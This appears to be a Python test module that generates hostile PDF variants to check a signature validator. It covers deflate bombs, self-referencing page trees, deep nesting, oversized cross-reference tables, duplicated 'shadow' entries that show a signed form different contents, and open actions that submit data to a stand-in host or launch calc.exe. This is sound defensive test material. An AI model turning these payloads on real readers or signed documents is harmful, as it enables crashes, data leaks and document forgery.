"""Files that want time, memory or a secret instead of a verdict: bombs, loops, depth, encryption, and dictionaries of two meanings."""

from __future__ import annotations

import io
import zlib
from collections.abc import Iterator

from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.pdf_utils.writer import copy_into_new_writer

from tests.attacks.attack import Attack
from tests.attacks.overlays import shown, with_entry
from tests.attacks.updates import appended, number_of, object_of, place_of, pointer_of, root_of, size_of, stream

_MEBI = 1 << 20


def bombs(signed: bytes) -> Iterator[Attack]:
    """Updates that a reader should not be able to choke on. The file is signed, so it is asked about."""
    number, page = size_of(signed), number_of(signed, b"/Type /Page", b"/Contents")
    root = int(root_of(signed).split()[0])
    pages = number_of(signed, b"/Type /Pages")
    form = number_of(signed, b"/Fields")
    yield Attack(
        "bomb_page_tree_of_itself", appended(signed, {pages: b"<< /Type /Pages /Count 1 /Kids [%d 0 R] >>" % pages})
    )
    ring = {
        number: b"<< /Type /Pages /Count 1 /Kids [%d 0 R] >>" % (number + 1),
        number + 1: b"<< /Type /Pages /Count 1 /Kids [%d 0 R] >>" % number,
    }
    yield Attack(
        "bomb_page_tree_in_a_ring",
        appended(signed, {pages: b"<< /Type /Pages /Count 1 /Kids [%d 0 R] >>" % number, **ring}),
    )
    yield Attack("bomb_reference_to_itself", appended(signed, {page: b"%d 0 R" % page}))
    yield Attack("bomb_references_in_a_ring", appended(signed, {page: b"%d 0 R" % number, number: b"%d 0 R" % page}))
    yield Attack(
        "bomb_fields_of_themselves",
        appended(signed, {form: b"<< /Fields [%d 0 R] >>" % number, number: b"<< /T (a) /Kids [%d 0 R] >>" % number}),
    )
    zeros = zlib.compress(bytes(200 * _MEBI), 9)
    deflated = stream(zeros, b"/Filter /FlateDecode")
    yield Attack("bomb_deflated_content", appended(signed, {number_of(signed, b"/ASCII85Decode"): deflated}))
    twice = stream(zlib.compress(zeros, 9), b"/Filter [/FlateDecode /FlateDecode]")
    field = number_of(signed, b"/T (So)")
    face = with_entry(with_entry(object_of(signed, field), b"/AP", b"<< /N %d 0 R >>" % number), b"/V", b"(20)")
    yield Attack("bomb_deflated_twice_in_a_field", appended(signed, {field: face, number: twice}))
    yield Attack("bomb_field_of_a_million_letters", appended(signed, {field: face, number: shown(b"2" * _MEBI)}))
    yield Attack("bomb_deep_array", appended(signed, {number: b"[" * 100_000 + b"]" * 100_000}))
    yield Attack(
        "bomb_deep_array_in_catalogue",
        appended(signed, {root: with_entry(object_of(signed, root), b"/Extensions", b"[" * 5000 + b"]" * 5000)}),
    )
    yield Attack("bomb_hundred_thousand_objects", appended(signed, {number + each: b"null" for each in range(100_000)}))
    yield Attack("bomb_digits", appended(signed, {page: b"9" * _MEBI}))
    yield Attack("bomb_name", appended(signed, {page: b"/" + b"a" * _MEBI}))
    yield Attack("bomb_brackets_of_a_string", appended(signed, {number: b"(" * 200_000}))
    yield from _tables(signed)


def _tables(signed: bytes) -> Iterator[Attack]:
    """Cross-reference sections that claim more than there is (7.5.8)."""
    number, start = size_of(signed), len(signed)

    def with_stream(entries: bytes, data: bytes = b"") -> bytes:
        table = b"%d 0 obj\n%s\nendobj\n" % (number, stream(data, b"/Type /XRef " + entries))
        return signed + table + b"startxref\n%d\n%%%%EOF\n" % start

    common = b"/Root %s /Prev %d /W [1 4 1] " % (root_of(signed), pointer_of(signed))
    yield Attack("bomb_table_of_two_billion_rows", with_stream(common + b"/Size 2147483647"))
    yield Attack(
        "bomb_table_of_two_billion_rows_deflated",
        with_stream(common + b"/Size 2147483647 /Filter /FlateDecode", zlib.compress(bytes(8 * _MEBI), 9)),
    )
    yield Attack("bomb_table_of_wide_rows", with_stream(common.replace(b"[1 4 1]", b"[1 999999999 1]") + b"/Size 60"))
    yield Attack("bomb_table_of_no_width", with_stream(common.replace(b"[1 4 1]", b"[0 0 0]") + b"/Size 2147483647"))
    yield Attack("bomb_table_of_negative_rows", with_stream(common + b"/Size 60 /Index [-5 10]"))
    yield Attack("bomb_tables_in_a_ring", appended(signed, {number: b"null"}, previous=start + 30))
    rows = b"xref\n0 999999999\n0000000000 65535 f \n"
    trailer = b"trailer\n<< /Size 999999999 /Root %s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        root_of(signed),
        pointer_of(signed),
        start,
    )
    yield Attack("bomb_table_of_a_billion_rows_announced", signed + rows + trailer)


def secrets(page: bytes, signed: bytes) -> Iterator[Attack]:
    """Encrypted, or sending away what it holds (PDFex, 2019)."""
    out = io.BytesIO()
    writer = copy_into_new_writer(PdfFileReader(io.BytesIO(page)))
    writer.encrypt("chu", "nguoi")
    writer.write(out)
    yield Attack("secret_password_nobody_gave", out.getvalue())
    root = int(root_of(page).split()[0])
    wild = {
        "uri": b"<< /S /URI /URI (http://192.0.2.1/) >>",
        "submit": b"<< /S /SubmitForm /F << /FS /URL /F (http://192.0.2.1/) >> >>",
        "launch": b"<< /S /Launch /F (calc.exe) >>",
        "remote": b"<< /S /GoToR /F (//192.0.2.1/a.pdf) /D [0 /Fit] >>",
    }
    for name, action in wild.items():
        sent = appended(signed, {root: with_entry(object_of(signed, root), b"/OpenAction", action)})
        yield Attack(f"secret_{name}_on_opening", sent)
    crypt = b"<< /Filter /Standard /V 4 /R 4 /Length 128 /P -1 /O <00> /U <00> /CF << /StdCF << /CFM /None >> >> /StmF /Identity /StrF /Identity >>"
    yield Attack(
        "secret_identity_filter_added",
        appended(signed, {size_of(signed): crypt}, trailer=b"/Encrypt %d 0 R" % size_of(signed)),
    )


def ambiguities(signed: bytes) -> Iterator[Attack]:
    """What stands there twice, and each reader takes the one it likes."""
    field, number = number_of(signed, b"/T (So)"), size_of(signed)
    entry = object_of(signed, field)
    face = {number: shown(b"20"), number + 1: shown(b"99")}
    plain = with_entry(with_entry(entry, b"/V", b"(20)"), b"/AP", b"<< /N %d 0 R >>" % number)
    for name, more in {
        "value": b"/V (99)",
        "appearance": b"/AP << /N %d 0 R >>" % (number + 1),
        "escaped_value": b"/#56 (99)",
        "flags": b"/F 2 /F 4",
    }.items():
        yield Attack(f"ambiguous_{name}_twice", appended(signed, {field: plain[:-2] + b" " + more + b" >>", **face}))
    lying = appended(signed, {field: plain, number: shown(b"20").replace(b"/Length ", b"/Length 9", 1)})
    yield Attack("ambiguous_length_of_appearance", lying)
    short = appended(
        signed, {field: plain, number: shown(b"20").replace(b"endstream", b"endstream\nBT (99) Tj ET\nendstream", 1)}
    )
    yield Attack("ambiguous_end_of_appearance", short)
    honest = appended(signed, {field: plain, **face})
    at = place_of(honest, number + 1)
    yield Attack(
        "ambiguous_row_twice", appended(signed, {field: plain, **face}, rows=[(number, b"%010d 00000 n" % at)])
    )
    last = honest.rindex(b"trailer\n<<")
    yield Attack("ambiguous_size_twice", honest[:last] + b"trailer\n<< /Size 3" + honest[last + 10 :])
